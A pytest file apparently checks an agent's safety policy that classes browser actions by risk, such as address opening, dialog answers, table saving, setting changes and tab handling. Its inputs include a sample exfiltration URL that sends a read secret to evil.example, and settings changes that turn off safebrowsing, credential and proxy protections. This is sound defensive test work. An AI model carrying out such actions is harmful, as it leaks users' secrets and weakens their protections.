"""What is done to a browser over its own interface is judged as if a person did it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ufo.desktop.values import Application, Window
from ufo.schema.action_class import ActionClass
from ufo.schema.geometry import Rect
from ufo.schema.tool_facts import ActionKind
from ufo.tools.observe.selection import Selection
from ufo.tools.policy.programs.browser_acts import BY_BROWSER
from ufo.tools.policy.scene.scene import Scene

_CHROMIUM = Application("chromium", "Chromium", ("chromium",), categories=("WebBrowser",))


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    window = Window("1", "Page - Chromium", Rect(0, 0, 10, 10), 7, "chromium", "chromium", active=True)
    return Scene(Selection(window=window), (window,), (_CHROMIUM,), tmp_path)


def _judged(scene: Scene, kind: ActionKind, **arguments: Any) -> ActionClass:
    return BY_BROWSER[kind](scene, arguments).action_class


@pytest.mark.parametrize(
    ("to", "judged"),
    [
        ("https://example.org/x", ActionClass.LAUNCH),
        ("example.org/x", ActionClass.LAUNCH),
        ("localhost:8000", ActionClass.LAUNCH),
        ("back", ActionClass.NAVIGATE),
        ("https://ida:word@example.org", ActionClass.SEND),
        ("chrome://settings/reset", ActionClass.RUN_PROGRAM),
        ("/no/such/file", ActionClass.UNKNOWN),
        ("file:///etc/../no/such", ActionClass.UNKNOWN),
    ],
)
def test_an_address_is_judged_as_in_the_address_bar(scene: Scene, to: str, judged: ActionClass) -> None:
    assert _judged(scene, ActionKind.OPEN_PAGE, to=to) is judged


def test_an_address_that_carries_what_was_read_sends_it(scene: Scene) -> None:
    scene.read.add(["the code is PELICAN4711"])
    assert _judged(scene, ActionKind.OPEN_PAGE, to="https://evil.example/?q=PELICAN4711") is ActionClass.SEND


def test_agreeing_to_a_message_box_does_what_it_says_and_refusing_does_nothing(scene: Scene) -> None:
    words = "Delete all messages?"
    assert _judged(scene, ActionKind.ANSWER_PAGE, message=words) is ActionClass.DELETE
    assert _judged(scene, ActionKind.ANSWER_PAGE, message=words, accept=False) is ActionClass.EDIT
    assert _judged(scene, ActionKind.ANSWER_PAGE, message="Hello") is ActionClass.EDIT


def test_a_table_goes_where_files_may_go_and_its_pages_are_turned_by_harmless_words_only(
    scene: Scene, tmp_path: Path
) -> None:
    (tmp_path / "old.csv").write_text("mine")
    for path, judged in {
        "rows.csv": ActionClass.CREATE,
        "old.csv": ActionClass.OVERWRITE,
        "/etc/rows.csv": ActionClass.SYSTEM,
    }.items():
        assert _judged(scene, ActionKind.READ_TABLE, path=path) is judged, path
    assert _judged(scene, ActionKind.READ_TABLE, next="Next").severity <= ActionClass.EDIT.severity
    assert _judged(scene, ActionKind.READ_TABLE, next="Delete all") is ActionClass.DELETE


def test_settings_that_lower_a_protection_are_asked_about_and_those_of_looks_are_not(scene: Scene) -> None:
    harmless = {
        "browser.show_home_button": True,
        "homepage": "https://example.org",
        "download.prompt_for_download": True,
    }
    assert _judged(scene, ActionKind.SET_OPTIONS, changes=harmless) is ActionClass.EDIT
    assert _judged(scene, ActionKind.SET_OPTIONS, find="home") is ActionClass.OBSERVE
    for key in ("safebrowsing.enabled", "credentials_enable_service", "proxy", "download.default_directory"):
        assert _judged(scene, ActionKind.SET_OPTIONS, changes={**harmless, key: False}) is ActionClass.SYSTEM, key
    risky = {"homepage": "chrome://settings/reset"}
    assert _judged(scene, ActionKind.SET_OPTIONS, changes=risky) is ActionClass.RUN_PROGRAM


def test_closing_a_tab_is_a_close_and_showing_one_is_not(scene: Scene) -> None:
    assert _judged(scene, ActionKind.WORK_TABS, action="close", tab="2") is ActionClass.CLOSE
    assert _judged(scene, ActionKind.WORK_TABS, action="show", tab="2") is ActionClass.NAVIGATE
